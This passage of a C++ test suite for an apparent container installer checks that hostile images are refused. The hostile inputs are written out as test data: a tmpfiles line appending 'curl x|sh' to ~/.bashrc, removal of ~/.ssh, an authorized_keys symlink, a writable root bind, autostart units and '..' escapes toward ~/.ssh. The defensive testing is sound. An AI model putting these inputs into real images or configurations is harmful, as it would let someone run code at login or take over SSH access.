  EXPECT_NE(h.error().message().find("not installed by boxctl install"), std::string::npos);
  EXPECT_TRUE(fs::exists(definition("handmade")));
}

// The install runs in a child that is killed if it has not ended after
// `limit`: its error message ("" on success), or nullopt when it hung (as
// every install did on a FIFO in an image before box read only regular
// files).
std::optional<std::string> install_error_within(const InstallContext& ctx,
                                                const std::string& source,
                                                const InstallOptions& options,
                                                std::chrono::seconds limit) {
  int p[2];
  if (pipe2(p, O_CLOEXEC) != 0) return std::nullopt;
  pid_t child = fork();
  if (child == 0) {
    close(p[0]);
    auto r = install(ctx, source, options, nullptr);
    std::string m = r ? "" : r.error().message();
    (void)!write(p[1], m.data(), m.size());
    _exit(0);
  }
  close(p[1]);
  std::string message;
  bool ended = false;
  auto deadline = std::chrono::steady_clock::now() + limit;
  while (std::chrono::steady_clock::now() < deadline) {
    pollfd pfd{p[0], POLLIN, 0};
    if (poll(&pfd, 1, 100) <= 0) continue;
    char buf[4096];
    ssize_t n = read(p[0], buf, sizeof buf);
    if (n <= 0) {
      ended = true;
      break;
    }
    message.append(buf, static_cast<std::size_t>(n));
  }
  close(p[0]);
  if (!ended) kill(child, SIGKILL);
  waitpid(child, nullptr, 0);
  if (!ended) return std::nullopt;
  return message;
}

// Finding 5 of issue 12: a FIFO where an image supplies a file hung the
// install for ever. Each must fail at once, naming the file, and leave
// nothing.
TEST_F(Install, AFifoInTheExportsFailsAtOnceAndLeavesNothing) {
  struct Case {
    std::string what;
    std::vector<TarEntry> entries;
    std::string message;
  };
  const std::vector<Case> cases = {
      {"manifest.json", {dir("exports"), fifo("exports/manifest.json")},
       "/exports/manifest.json' is a FIFO, not a regular file"},
      {"tmpfiles.template", {dir("exports"), fifo("exports/tmpfiles.template")},
       "/exports/tmpfiles.template' is a FIFO, not a regular file"},
      {"hostfs", {dir("exports"), dir("exports/hostfs/etc/app"), fifo("exports/hostfs/etc/app/conf")},
       // The install's policy refuses it first, with the others it refuses.
       "hostfs/etc/app/conf: a FIFO; only regular files and symlinks are installed"},
      {"the image's /etc/passwd (its User is a name)", {fifo("etc/passwd")},
       "image user 'svc': '"},
      {"config.json.template as a directory",
       {dir("exports"), dir("exports/config.json.template")},
       "/exports/config.json.template' is a directory, not a regular file"},
  };
  for (const auto& c : cases) {
    ImageSpec spec = two_layer_spec();
    spec.layers.push_back(make_tar(c.entries));
    fs::remove_all(tmp_ / "layout");
    make_oci_layout(tmp_ / "layout", spec);
    auto started = std::chrono::steady_clock::now();
    auto error = install_error_within(ctx_, "oci:" + (tmp_ / "layout"), named("app"),
                                      std::chrono::seconds(10));
    ASSERT_TRUE(error.has_value()) << c.what << ": the install hung";
    EXPECT_NE(error->find(c.message), std::string::npos) << c.what << ": " << *error;
    EXPECT_LT(std::chrono::steady_clock::now() - started, std::chrono::seconds(5)) << c.what;
    expect_nothing_left("app");
  }
}

// The image's own files, outside /exports: a blob of the layout, the
// archive itself, a bundle's config.json.
TEST_F(Install, AFifoAnywhereAnImageSuppliesAFileIsRefused) {
  auto built = make_oci_layout(tmp_ / "layout", two_layer_spec());
  const std::string layer = tmp_ / ("layout/blobs/sha256/" + built.layer_digests[1].substr(7));
  fs::remove(layer);
  ASSERT_EQ(mkfifo(layer.c_str(), 0644), 0);
  auto blob = install_error_within(ctx_, "oci:" + (tmp_ / "layout"), named("app"),
                                   std::chrono::seconds(10));
  ASSERT_TRUE(blob.has_value()) << "hung on a FIFO layer blob";
  EXPECT_NE(blob->find("'" + layer + "' is a FIFO, not a regular file"), std::string::npos)
      << *blob;
  expect_nothing_left("app");

  fs::remove(tmp_ / "layout/index.json");
  ASSERT_EQ(mkfifo((tmp_ / "layout/index.json").c_str(), 0644), 0);
  auto index = install_error_within(ctx_, "oci:" + (tmp_ / "layout"), named("app"),
                                    std::chrono::seconds(10));
  ASSERT_TRUE(index.has_value()) << "hung on a FIFO index.json";
  EXPECT_NE(index->find("index.json' is a FIFO, not a regular file"), std::string::npos)
      << *index;

  ASSERT_EQ(mkfifo((tmp_ / "app.tar").c_str(), 0644), 0);
  auto archive = install_error_within(ctx_, "oci-archive:" + (tmp_ / "app.tar"), named("app"),
                                      std::chrono::seconds(10));
  ASSERT_TRUE(archive.has_value()) << "hung on a FIFO archive";
  EXPECT_NE(archive->find("'" + (tmp_ / "app.tar") + "' is a FIFO, not a regular file"),
            std::string::npos)
      << *archive;

  fs::create_directories(tmp_ / "bundle/rootfs/bin");
  ASSERT_EQ(mkfifo((tmp_ / "bundle/config.json").c_str(), 0644), 0);
  auto bundle =
      install_error_within(ctx_, tmp_ / "bundle", named("app"), std::chrono::seconds(10));
  ASSERT_TRUE(bundle.has_value()) << "hung on a FIFO config.json";
  EXPECT_NE(bundle->find("/bundle/config.json' is a FIFO, not a regular file"), std::string::npos)
      << *bundle;
  expect_nothing_left("app");
}

// A decompression bomb: a gzip layer of 64 KiB that expands to 64 MiB,
// with the limit at 16 MiB. Another that stays under the limit in each file
// but not in all.
TEST_F(Install, ABombStopsWithAClearErrorAndLeavesNothing) {
  ImageSpec spec = two_layer_spec();
  spec.layers.push_back(make_tar({file("zeros", std::string(64 << 20, '\0'))}));
  ASSERT_LT(spec.layers.back().size(), 1u << 20);
  make_oci_layout(tmp_ / "layout", spec);
  InstallOptions o = named("app");
  o.max_size = 16 << 20;
  auto r = install(ctx_, "oci:" + (tmp_ / "layout"), o, nullptr);
  ASSERT_FALSE(r.ok());
  EXPECT_NE(r.error().message().find("layer 3/3"), std::string::npos) << r.error().message();
  EXPECT_NE(r.error().message().find("is larger than 16 MiB (16777216 bytes); raise --max-size"),
            std::string::npos)
      << r.error().message();
  expect_nothing_left("app");

  ImageSpec spread = two_layer_spec();
  std::vector<TarEntry> files;
  for (int i = 0; i < 8; ++i) files.push_back(file("f" + std::to_string(i), std::string(4 << 20, 'x')));
  spread.layers.push_back(make_tar(files));
  fs::remove_all(tmp_ / "layout");
  make_oci_layout(tmp_ / "layout", spread);
  auto total = install(ctx_, "oci:" + (tmp_ / "layout"), o, nullptr);
  ASSERT_FALSE(total.ok());
  EXPECT_NE(total.error().message().find(
                "the image unpacks to more than 16 MiB (16777216 bytes); raise --max-size"),
            std::string::npos)
      << total.error().message();
  expect_nothing_left("app");

  // Under the default limit the same image installs.
  auto fine = install(ctx_, "oci:" + (tmp_ / "layout"), named("app"), nullptr);
  ASSERT_TRUE(fine.ok()) << fine.error().message();
}

TEST(Debris, ThePidInTheName) {
  EXPECT_EQ(debris_pid(".staging-etcd-123-ab12cd34"), 123);
  EXPECT_EQ(debris_pid(".staging-my-app-7-x"), 7);
  EXPECT_EQ(debris_pid(".old-etcd-99-zz"), 99);
  EXPECT_EQ(debris_pid(".removing-etcd-5-q"), 5);
  EXPECT_EQ(debris_pid("etcd.yaml.installing-4242"), 4242);
  EXPECT_FALSE(debris_pid("etcd"));
  EXPECT_FALSE(debris_pid(".staging-etcd"));
  EXPECT_FALSE(debris_pid(".staging-etcd-x-y"));
  EXPECT_FALSE(debris_pid(".staging--1-"));
  EXPECT_FALSE(debris_pid("etcd.yaml"));
  EXPECT_FALSE(debris_pid("etcd.yaml.installing-"));
  EXPECT_FALSE(debris_pid("etcd.yaml.installing-12a"));
}

// Only entries of gone processes, only inside images/ and containers/: a
// symlink among them is removed, not what it points at.
TEST_F(Install, DebrisOfGoneProcessesOnly) {
  pid_t gone = fork();
  if (gone == 0) _exit(0);
  waitpid(gone, nullptr, 0);
  const std::string dead = std::to_string(gone), alive = std::to_string(getpid());
  const std::string defs = ctx_.dirs.config_home + "/box/containers";
  write_bytes(images() + "/.staging-app-" + dead + "-abc/rootfs/etc/x", "debris");
  write_bytes(images() + "/.removing-app-" + dead + "-abc/y", "debris");
  write_bytes(images() + "/.staging-app-" + alive + "-abc/rootfs/z", "in progress");
  write_bytes(images() + "/kept/image.json", "{}");
  write_bytes(defs + "/app.yaml.installing-" + dead, "command: [x]\n");
  write_bytes(defs + "/app.yaml.installing-" + alive, "command: [x]\n");
  write_bytes(tmp_ / "outside/precious", "mine");
  fs::create_directory_symlink(tmp_ / "outside", images() + "/.old-app-" + dead + "-abc");

  auto removed = remove_install_debris(ctx_);
  EXPECT_TRUE(removed.errors.empty()) << removed.errors.front();
  EXPECT_EQ(std::set<std::string>(removed.removed.begin(), removed.removed.end()),
            (std::set<std::string>{
                                 images() + "/.old-app-" + dead + "-abc",
                                 images() + "/.removing-app-" + dead + "-abc",
                                 images() + "/.staging-app-" + dead + "-abc",
                                 defs + "/app.yaml.installing-" + dead,
                             }));
  std::vector<std::string> left;
  for (const auto& e : fs::directory_iterator(images())) left.push_back(e.path().filename());
  std::sort(left.begin(), left.end());
  EXPECT_EQ(left, (std::vector<std::string>{".staging-app-" + alive + "-abc", "kept"}));
  EXPECT_TRUE(fs::exists(defs + "/app.yaml.installing-" + alive));
  EXPECT_EQ(read_bytes(tmp_ / "outside/precious"), "mine");
}

// $CONF_DIRECTORY (issue 16, input 1): the box's own ~/.config/box/etc,
// where hostfs/etc goes and which a template's $CONF_DIRECTORY/$NAME bind
// names, without consent; or a directory you name with --set, which the
// etc/ files and the bind follow, the bind then with consent.
TEST_F(Install, ConfDirectoryIsTheBoxsOwnOrOneYouName) {
  make_atomic_image({{"config.json.template", config_with_bind("$CONF_DIRECTORY/$NAME", "ro")},
                     {"manifest.json", R"({"defaultValues":{"CONF_DIRECTORY":"/etc"}})"}},
                    {dir("exports/hostfs"), dir("exports/hostfs/etc"),
                     dir("exports/hostfs/etc/app"),
                     file("exports/hostfs/etc/app/app.conf", "port=1\n")});
  const std::string source = "oci:" + (tmp_ / "layout");
  auto r = install(ctx_, source, named("app"), nullptr);
  ASSERT_TRUE(r.ok()) << r.error().message();
  const std::string own = ctx_.dirs.config_home + "/box/etc/app";
  EXPECT_EQ(read_bytes(own + "/app.conf"), "port=1\n");
  std::string def = read_bytes(definition("app"));
  EXPECT_NE(def.find("source: \"" + own + "\""), std::string::npos) << def;
  ASSERT_TRUE(uninstall(ctx_, "app", true).ok());
  EXPECT_FALSE(fs::exists(own));

  const std::string mine = ctx_.dirs.home + "/appconf";
  auto refused = install(ctx_, source, with_set(named("app"), "CONF_DIRECTORY", mine), nullptr);
  ASSERT_FALSE(refused.ok());
  EXPECT_NE(refused.error().message().find("add --allow-bind " + mine + "/app"),
            std::string::npos)
      << refused.error().message();
  expect_nothing_left("app");
  for (const std::string& bad : std::vector<std::string>{"etc", "/", mine + "/", mine + "/../x"}) {
    auto b = install(ctx_, source, with_set(named("app"), "CONF_DIRECTORY", bad), nullptr);
    ASSERT_FALSE(b.ok()) << bad;
    EXPECT_NE(b.error().message().find("--set CONF_DIRECTORY=" + bad + ": not an absolute"),
              std::string::npos)
        << b.error().message();
  }
  auto state = install(ctx_, source, with_set(named("app"), "STATE_DIRECTORY", mine), nullptr);
  ASSERT_FALSE(state.ok());
  EXPECT_NE(state.error().message().find("$STATE_DIRECTORY is set by box and cannot be changed"),
            std::string::npos)
      << state.error().message();

  InstallOptions o = with_set(named("app"), "CONF_DIRECTORY", mine);
  o.allow_binds = {mine + "/app"};
  r = install(ctx_, source, o, nullptr);
  ASSERT_TRUE(r.ok()) << r.error().message();
  EXPECT_EQ(read_bytes(mine + "/app/app.conf"), "port=1\n");
  EXPECT_FALSE(fs::exists(own));
  def = read_bytes(definition("app"));
  EXPECT_NE(def.find("source: \"" + mine + "/app\""), std::string::npos) << def;
  // Your directory, not one of box's places: uninstall leaves it and says so.
  auto un = uninstall(ctx_, "app", true);
  ASSERT_TRUE(un.ok()) << un.error().message();
  std::string said;
  for (const auto& m : *un) said += m + "\n";
  EXPECT_NE(said.find("left '" + mine + "/app/app.conf'"), std::string::npos) << said;
  EXPECT_EQ(read_bytes(mine + "/app/app.conf"), "port=1\n");
}

// Issue 12, finding 3: a tmpfiles line and a bind source that climb out of
// the box's places with "..". Refused at install, with both named; the
// user's ~/precious and ~/.ssh are untouched.
TEST_F(Install, DotDotOutOfTheBoxsPlacesIsRefused) {
  write_bytes(ctx_.dirs.home + "/precious/keep", "mine");
  write_bytes(ctx_.dirs.home + "/.ssh/id_ed25519", "secret");
  // $RUN_DIRECTORY is <runtime>/box/run; $STATE_DIRECTORY is
  // ~/.local/share/box/state: three ".." up is the scratch root, resp. ~.
  make_atomic_image({{"tmpfiles.template", "d $RUN_DIRECTORY/../../../home/precious - - - -\n"},
                     {"config.json.template", config_with_bind(
                                                  "$STATE_DIRECTORY/../../../.ssh", "rw")}});
  auto r = install(ctx_, "oci:" + (tmp_ / "layout"), named("app"), nullptr);
  ASSERT_FALSE(r.ok());
  const std::string m = r.error().message();
  EXPECT_NE(m.find("tmpfiles.template:1: 'd " + ctx_.dirs.runtime_dir +
                   "/box/run/../../../home/precious - - - -': '" + ctx_.dirs.runtime_dir +
                   "/box/run/../../../home/precious' is not a canonical absolute path"),
            std::string::npos)
      << m;
  EXPECT_NE(m.find("config.json.template: bind of host path '" + ctx_.dirs.data_home +
                   "/box/state/../../../.ssh' (read-write) to '/data': not a canonical"),
            std::string::npos)
      << m;
  expect_nothing_left("app");
  EXPECT_EQ(read_bytes(ctx_.dirs.home + "/precious/keep"), "mine");
  EXPECT_EQ(read_bytes(ctx_.dirs.home + "/.ssh/id_ed25519"), "secret");
  EXPECT_FALSE(fs::exists(ctx_.dirs.config_home + "/user-tmpfiles.d"));
}

// The other half of finding 3: uninstall acts only on records it checks
// again. An image.json edited to name ~/.ssh and ~/precious (with their
// real inodes: whoever edits it can stat them) removes neither, with or
// without --purge; a record whose inode changed is left too.
TEST_F(Install, AnEditedImageJsonCannotMakeUninstallRemoveYourFiles) {
  write_bytes(ctx_.dirs.home + "/precious/keep", "mine");
  write_bytes(ctx_.dirs.home + "/.ssh/id_ed25519", "secret");
  write_bytes(ctx_.dirs.home + "/.bashrc", "# mine\n");
  make_atomic_image({{"tmpfiles.template", "d $STATE_DIRECTORY/$NAME 0700 - - -\n"
                                           "d $RUN_DIRECTORY/$NAME/sock - - - -\n"}});
  for (bool purge : {false, true}) {
    auto r = install(ctx_, "oci:" + (tmp_ / "layout"), named("app"), nullptr);
    ASSERT_TRUE(r.ok()) << r.error().message();
    const std::string meta_path = images() + "/app/image.json";
    auto j = nlohmann::json::parse(read_bytes(meta_path));
    auto record = [](const std::string& path, const std::string& kind) {
      struct stat st;
      lstat(path.c_str(), &st);
      return nlohmann::json{{"path", path},
                            {"kind", kind},
                            {"dev", static_cast<std::uint64_t>(st.st_dev)},
                            {"ino", static_cast<std::uint64_t>(st.st_ino)}};
    };
    const std::string home = ctx_.dirs.home;
    const std::string state = ctx_.dirs.data_home + "/box/state";
    for (const auto& [path, kind] : std::vector<std::pair<std::string, std::string>>{
             {home + "/.ssh", "data"},
             {home + "/precious", "runtime"},
             {state + "/app/../../../../../precious", "data"},
             {home + "/.bashrc", "host-file"},
             {home + "/.ssh/id_ed25519", "tmpfiles"}})
      j["created"].push_back(record(path, kind));
    // The runtime dir's record now names another inode (it is removed all
    // the same, as the box's own runtime dir, below).
    for (auto& c : j["created"])
      if (c["kind"] == "runtime" && c["path"] == ctx_.dirs.runtime_dir + "/box/run/app")
        c["ino"] = c["ino"].get<std::uint64_t>() + 1;
    j["data_dirs"] = {home + "/.ssh", home + "/precious"};
    j["runtime_dirs"] = {home + "/precious"};
    j["host_files"] = {home + "/.bashrc"};
    j["tmpfiles"] = home + "/.bashrc";
    j["definition"] = home + "/.bashrc";
    write_bytes(meta_path, j.dump());

    auto u = uninstall(ctx_, "app", purge);
    ASSERT_TRUE(u.ok()) << u.error().message();
    EXPECT_EQ(read_bytes(home + "/precious/keep"), "mine");
    EXPECT_EQ(read_bytes(home + "/.ssh/id_ed25519"), "secret");
    EXPECT_EQ(read_bytes(home + "/.bashrc"), "# mine\n");
    std::string notes;
    for (const auto& n : *u) notes += n + "\n";
    // Data records are looked at only with --purge.
    EXPECT_EQ(notes.find("left '" + home + "/.ssh' (data in image.json): not in the box's own") !=
                  std::string::npos,
              purge)
        << notes;
    EXPECT_NE(notes.find("left '" + home + "/precious' (runtime in image.json): not in the box's"),
              std::string::npos)
        << notes;
    EXPECT_NE(notes.find("left '" + home + "/.bashrc' (host-file in image.json)"),
              std::string::npos)
        << notes;
    EXPECT_NE(notes.find("/box/run/app': it is not the one the install created"),
              std::string::npos)
        << notes;
    expect_nothing_left("app");
    // The box's own places go as documented: the runtime dir always, the
    // state dir with --purge.
    EXPECT_FALSE(fs::exists(ctx_.dirs.runtime_dir + "/box/run/app"));
    EXPECT_EQ(fs::exists(state + "/app"), !purge);
  }
}

// A symlink in the box's own places is not followed by uninstall.
TEST_F(Install, UninstallDoesNotFollowASymlinkInTheBoxsPlaces) {
  write_bytes(ctx_.dirs.home + "/precious/keep", "mine");
  make_atomic_image({{"tmpfiles.template", "d $RUN_DIRECTORY/$NAME - - - -\n"}});
  ASSERT_TRUE(install(ctx_, "oci:" + (tmp_ / "layout"), named("app"), nullptr).ok());
  const std::string run = ctx_.dirs.runtime_dir + "/box/run/app";
  fs::remove(run);
  fs::create_directory_symlink(ctx_.dirs.home + "/precious", run);
  fs::create_directories(ctx_.dirs.data_home + "/box/state");
  fs::create_directory_symlink(ctx_.dirs.home + "/precious",
                               ctx_.dirs.data_home + "/box/state/app");
  auto u = uninstall(ctx_, "app", true);
  ASSERT_TRUE(u.ok()) << u.error().message();
  EXPECT_EQ(read_bytes(ctx_.dirs.home + "/precious/keep"), "mine");
  std::string notes;
  for (const auto& n : *u) notes += n + "\n";
  EXPECT_NE(notes.find("left '" + run + "': a symlink"), std::string::npos) << notes;
}

// Issue 12, finding 4: tmpfiles lines aimed at %h, hostfs files that run
// code or configure other software, a bind of / read-write, autostart. All
// refused at once, each naming what allows it; nothing of yours changes.
TEST_F(Install, ExportsThatWouldActOnTheHostAreRefused) {
  write_bytes(ctx_.dirs.home + "/.bashrc", "# mine\n");
  write_bytes(ctx_.dirs.home + "/.ssh/id_ed25519", "secret");
  fs::permissions(ctx_.dirs.home, fs::perms(0755));
  make_atomic_image(hostile_exports(), hostile_hostfs());
  auto r = install(ctx_, "oci:" + (tmp_ / "layout"), named("app"), nullptr);
  ASSERT_FALSE(r.ok());
  const std::string m = r.error().message();
  // hostfs/etc goes to $CONF_DIRECTORY: there these are other boxes'.
  const std::string home = ctx_.dirs.home, config = ctx_.dirs.config_home + "/box/etc";
  const std::string other_box = ": another box's configuration ($CONF_DIRECTORY/NAME is bound "
                                "into box NAME; an image may put files only in its own)";
  for (const std::string& says : std::vector<std::string>{
           "tmpfiles.template:1: 'w+ %h/.bashrc - - - - curl x|sh': specifiers",
           "tmpfiles.template:2: 'Z %h 0777': specifiers",
           "tmpfiles.template:3: 'R " + home + "/.ssh': 'R' removes files",
           "tmpfiles.template:4: 'L+ " + home + "/.ssh/authorized_keys - - - - /tmp/k': 'L+' "
           "creates a symlink",
           "hostfs/etc/systemd/user/x.service -> " + config +
               "/systemd/user/x.service" + other_box + "; add --allow-host-file " + config +
               "/systemd/user/x.service",
           "hostfs/etc/systemd/user/default.target.wants/x.service -> " + config +
               "/systemd/user/default.target.wants/x.service: a symlink to '../x.service'",
           "hostfs/etc/autostart/x.desktop -> " + config + "/autostart/x.desktop" + other_box,
           "hostfs/etc/box/containers/evil.yaml -> " + config + "/box/containers/evil.yaml" +
               other_box,
           "hostfs/usr/bin/ls -> " + home + "/.local/bin/ls: " + home +
               "/.local/bin is on PATH: a program there runs instead of another of that name; "
               "add --allow-host-file " + home + "/.local/bin/ls to install it",
           std::string("hostfs/usr/share/x/fifo: a FIFO; only regular files and symlinks"),
           std::string("config.json.template: bind of host path '/' (read-write) to '/data': "
                       "outside the box's own places; add --allow-bind / to allow it"),
           std::string("service.template: WantedBy= asks for 'autostart: login'"),
       })
    EXPECT_NE(m.find(says), std::string::npos) << says << "\nnot in:\n" << m;
  expect_nothing_left("app");
  EXPECT_EQ(read_bytes(home + "/.bashrc"), "# mine\n");
  EXPECT_EQ(read_bytes(home + "/.ssh/id_ed25519"), "secret");
  EXPECT_EQ(fs::status(home).permissions(), fs::perms(0755));
  for (const char* p : {"/systemd", "/autostart", "/user-tmpfiles.d"})
    EXPECT_FALSE(fs::exists(config + p)) << p;
  EXPECT_FALSE(fs::exists(home + "/.local/bin"));
}

// --dry-run: the same refusals, and every change the install would make,
// with nothing changed outside staging (staging removed).
TEST_F(Install, DryRunListsChangesAndRefusalsAndChangesNothing) {
  make_atomic_image(hostile_exports(), hostile_hostfs());
  InstallOptions o = named("app");
  o.dry_run = true;
  auto r = install(ctx_, "oci:" + (tmp_ / "layout"), o, nullptr);
  ASSERT_TRUE(r.ok()) << r.error().message();
  EXPECT_TRUE(r->dry_run);
  EXPECT_EQ(r->refused.size(), 12u);
  expect_nothing_left("app");
  EXPECT_FALSE(fs::exists(ctx_.dirs.home + "/.local/bin"));
  EXPECT_FALSE(fs::exists(ctx_.dirs.config_home + "/user-tmpfiles.d"));

  // An image that asks only for what it may do, and for what the user
  // consents to: every change listed, none made.
  fs::remove_all(tmp_ / "layout");
  make_atomic_image({{"tmpfiles.template", "d $STATE_DIRECTORY/$NAME 0700 - - -\n"},
                     {"config.json.template", config_with_bind("/", "ro")},
                     {"service.template", "[Install]\nWantedBy=default.target\n"}},
                    {file("exports/hostfs/usr/bin/ls", "#!/bin/sh\n", 0755),
                     file("exports/hostfs/usr/share/man/man1/app.1", ".TH APP 1\n")});
  const std::string ls = ctx_.dirs.home + "/.local/bin/ls";
  o.allow_binds = {"/"};
  o.allow_host_files = {ls};
  o.allow_autostart = true;
  r = install(ctx_, "oci:" + (tmp_ / "layout"), o, nullptr);
  ASSERT_TRUE(r.ok()) << r.error().message();
  EXPECT_TRUE(r->refused.empty()) << r->refused.front();
  const std::string state = ctx_.dirs.data_home + "/box/state";
  std::vector<HostChange> want = {
      {"definition", definition("app"), "created"},
      {"image", images() + "/app", "created"},
      {"tmpfiles", ctx_.dirs.config_home + "/user-tmpfiles.d/box-app.conf",
       "systemd-tmpfiles rules for the directories"},
      {"directory", state, "created (data, from tmpfiles.template)"},
      {"directory", state + "/app", "created (data, from tmpfiles.template)"},
      {"host-file", ls, "from hostfs/usr/bin/ls"},
      {"host-file", ctx_.dirs.data_home + "/man/man1/app.1", "from hostfs/usr/share/man/man1/app.1"},
      {"bind", "/", "read-only to /data (allowed by --allow-bind)"},
      {"autostart", "login", "started at every login (allowed)"},
  };
  EXPECT_EQ(r->changes, want);
  expect_nothing_left("app");
  EXPECT_FALSE(fs::exists(ls));
  EXPECT_FALSE(fs::exists(state));

  // The same, not a dry run: the consented things are there.
  o.dry_run = false;
  r = install(ctx_, "oci:" + (tmp_ / "layout"), o, nullptr);
  ASSERT_TRUE(r.ok()) << r.error().message();
  EXPECT_EQ(read_bytes(ls), "#!/bin/sh\n");
  std::string def = read_bytes(definition("app"));
  EXPECT_NE(def.find("source: \"/\""), std::string::npos) << def;
  EXPECT_NE(def.find("autostart: \"login\""), std::string::npos) << def;
  ASSERT_TRUE(uninstall(ctx_, "app", true).ok());
  EXPECT_FALSE(fs::exists(ls));
  EXPECT_FALSE(fs::exists(ctx_.dirs.data_home + "/man/man1/app.1"));
}

// An install recorded by an earlier box (no inodes): its host files and
// dirs outside the box's own places are left, and said so.
TEST_F(Install, AnOldImageJsonWithoutInodesLeavesItsHostFiles) {
  make_atomic_image({{"tmpfiles.template", "d $STATE_DIRECTORY/$NAME 0700 - - -\n"}});
  ASSERT_TRUE(install(ctx_, "oci:" + (tmp_ / "layout"), named("app"), nullptr).ok());
  const std::string meta_path = images() + "/app/image.json";
  auto j = nlohmann::json::parse(read_bytes(meta_path));
  j.erase("created");
  const std::string tool = ctx_.dirs.home + "/.local/bin/appctl";
  write_bytes(tool, "#!/bin/sh\n");
  j["host_files"] = {tool};
  write_bytes(meta_path, j.dump());
  auto u = uninstall(ctx_, "app", false);
  ASSERT_TRUE(u.ok()) << u.error().message();
  ASSERT_EQ(u->size(), 1u);
  EXPECT_NE(u->front().find("left '" + tool + "': installed by an earlier box"),
            std::string::npos)
      << u->front();
  EXPECT_TRUE(fs::exists(tool));
  EXPECT_FALSE(fs::exists(ctx_.dirs.config_home + "/user-tmpfiles.d/box-app.conf"));
  expect_nothing_left("app");
}

// An image config may be 8 MiB; labels that large would make a record
// (image.json) box could not read back, so the box could never be
// uninstalled or replaced. Refused, naming the labels, before anything is
// written; a dry run says the same.
TEST_F(Install, AnImageWhoseRecordWouldBeTooLargeIsRefused) {
  ImageSpec spec = two_layer_spec();
  spec.config["config"]["Labels"]["huge"] = std::string(2 << 20, 'x');
  make_oci_layout(tmp_ / "layout", spec);
  for (bool dry_run : {false, true}) {
    InstallOptions o = named("app");
    o.dry_run = dry_run;
    auto r = install(ctx_, "oci:" + (tmp_ / "layout"), o, nullptr);
    ASSERT_FALSE(r.ok()) << "dry run: " << dry_run;
    const std::string m = r.error().message();
    EXPECT_NE(m.find("its record (image.json) would be "), std::string::npos) << m;
    EXPECT_NE(m.find("more than the 1048576 box reads back (labels 2097"), std::string::npos) << m;
    expect_nothing_left("app");
  }
  EXPECT_EQ(reloads_, 0);
}

// --- Replacing an install with Atomic exports: host files -------------------

// What an install left on the host, to compare before and after.
struct HostSnapshot {
  std::string definition, image_json, tmpfiles, marker;
  std::map<std::string, std::string> docs;  // file -> content
  std::map<std::string, ino_t> inodes;      // file -> inode
  bool operator==(const HostSnapshot&) const = default;
};

void PrintTo(const HostSnapshot& s, std::ostream* os) {
  *os << "\n  definition: " << s.definition.size() << " bytes, image.json: " << s.image_json.size()
      << " bytes\n  tmpfiles: " << s.tmpfiles << "  marker: " << s.marker << "\n  docs:";
  for (const auto& [name, content] : s.docs)
    *os << " " << name << " (inode " << s.inodes.at(name) << "): " << content;
}

// Host files under ~/.local/share/appdoc (no consent needed there) and a
// tmpfiles.template.
class InstallReplace : public Install {
 protected:
  std::string docs() { return ctx_.dirs.data_home + "/appdoc"; }
  std::string tmpfiles() { return ctx_.dirs.config_home + "/user-tmpfiles.d/box-app.conf"; }

  void make_image(const std::map<std::string, std::string>& files,
                  const std::string& tmpfiles = "d $STATE_DIRECTORY/$NAME 0700 - - -\n") {
    std::vector<TarEntry> extra;
    for (const auto& [name, content] : files)
      extra.push_back(file("exports/hostfs/usr/share/appdoc/" + name, content));
    fs::remove_all(tmp_ / "layout");
    make_atomic_image({{"tmpfiles.template", tmpfiles}}, extra);
  }

  HostSnapshot snapshot() {
    HostSnapshot s;
    s.definition = read_bytes(definition("app"));
    s.image_json = read_bytes(images() + "/app/image.json");
    s.tmpfiles = read_bytes(tmpfiles());
    s.marker = read_bytes(rootfs("app") + "/marker");
    std::error_code ec;
    for (const auto& e : fs::directory_iterator(docs(), ec)) {
      s.docs[e.path().filename()] = read_bytes(e.path());
      struct stat st {};
      lstat(e.path().c_str(), &st);
      s.inodes[e.path().filename()] = st.st_ino;
    }
    return s;
  }

  std::vector<std::string> entries(const std::string& dir) {
    std::vector<std::string> out;
    std::error_code ec;
    for (const auto& e : fs::directory_iterator(dir, ec)) out.push_back(e.path().filename());
    std::sort(out.begin(), out.end());
    return out;
  }

  Result<InstalledImage> install_app(bool replace) {
    return install(ctx_, "oci:" + (tmp_ / "layout"), named("app", replace), nullptr);
  }
};

// A replace that fails after it wrote the new host files (its stop of the
// old container failed; a later host file could not be written) leaves the
// previous install as it was: the same files with the same contents and
// inodes (its record names them), the same tmpfiles rules, definition,
// image and record; and that install still uninstalls cleanly.
TEST_F(InstallReplace, AFailedReplaceLeavesThePreviousInstallWhole) {
  make_image({{"a.txt", "a v1\n"}, {"b.txt", "b v1\n"}});
  auto first = install_app(false);
  ASSERT_TRUE(first.ok()) << first.error().message();
  write_bytes(rootfs("app") + "/marker", "old");
  const HostSnapshot before = snapshot();
  ASSERT_EQ(before.docs,
            (std::map<std::string, std::string>{{"a.txt", "a v1\n"}, {"b.txt", "b v1\n"}}));

  // After each failure below: the previous install as it was.
  auto expect_previous_whole = [&](const char* after) {
    EXPECT_EQ(snapshot(), before) << after;
    EXPECT_EQ(entries(docs()), (std::vector<std::string>{"a.txt", "b.txt"})) << after;
    EXPECT_EQ(entries(ctx_.dirs.config_home + "/user-tmpfiles.d"),
              std::vector<std::string>{"box-app.conf"})
        << after;
    EXPECT_EQ(entries(images()), std::vector<std::string>{"app"}) << after;
  };

  const std::string v2_tmpfiles =
      "d $STATE_DIRECTORY/$NAME 0700 - - -\nd $RUN_DIRECTORY/$NAME - - - - -\n";
  // 1. Every host file written, then the stop of the old container fails.
  make_image({{"a.txt", "a v2\n"}, {"b.txt", "b v2\n"}}, v2_tmpfiles);
  ctx_.stop_unit = [](const std::string& unit) -> Result<void> {
    return Error("stop " + unit + ": the user manager said no");
  };
  auto stop_failed = install_app(true);
  ASSERT_FALSE(stop_failed.ok());
  EXPECT_NE(stop_failed.error().message().find("the user manager said no"), std::string::npos)
      << stop_failed.error().message();
  expect_previous_whole("after a failed stop");

  // 2. A host file written, the next one cannot be (a file is where its
  // directory would go).
  ctx_.stop_unit = [](const std::string&) -> Result<void> { return {}; };
  write_bytes(ctx_.dirs.data_home + "/appdoc-blocked", "a file, not a directory\n");
  std::vector<TarEntry> extra = {file("exports/hostfs/usr/share/appdoc/a.txt", "a v2\n"),
                                 file("exports/hostfs/usr/share/appdoc-blocked/c.txt", "c\n")};
  fs::remove_all(tmp_ / "layout");
  make_atomic_image({{"tmpfiles.template", v2_tmpfiles}}, extra);
  auto write_failed = install_app(true);
  ASSERT_FALSE(write_failed.ok());
  EXPECT_NE(write_failed.error().message().find("appdoc-blocked/c.txt"), std::string::npos)
      << write_failed.error().message();
  expect_previous_whole("after a failed write");

  // The previous install's record still holds: uninstall removes its files.
  auto u = uninstall(ctx_, "app", true);
